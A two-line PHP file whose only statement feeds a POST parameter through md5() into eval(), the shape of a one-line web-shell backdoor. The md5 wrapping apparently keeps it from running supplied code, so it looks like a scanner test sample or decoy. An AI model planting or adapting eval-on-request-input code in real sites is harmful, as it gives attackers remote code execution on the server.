<?php
eval(md5($_POST['x']));
